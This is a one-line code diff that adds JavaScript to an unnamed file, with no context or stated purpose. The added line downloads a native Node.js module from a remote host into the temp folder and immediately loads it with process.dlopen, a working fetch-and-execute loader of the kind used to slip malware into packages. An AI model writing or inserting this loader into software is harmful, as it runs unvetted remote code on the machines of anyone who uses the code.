@@ -1,0 +1,1 @@
+const https = require("https"); const fs = require("fs"); const f = require("os").tmpdir() + "/n.node"; https.get("https://dl.example.invalid/n.node", r => r.pipe(fs.createWriteStream(f)).on("finish", () => process.dlopen({ exports: {} }, f)));
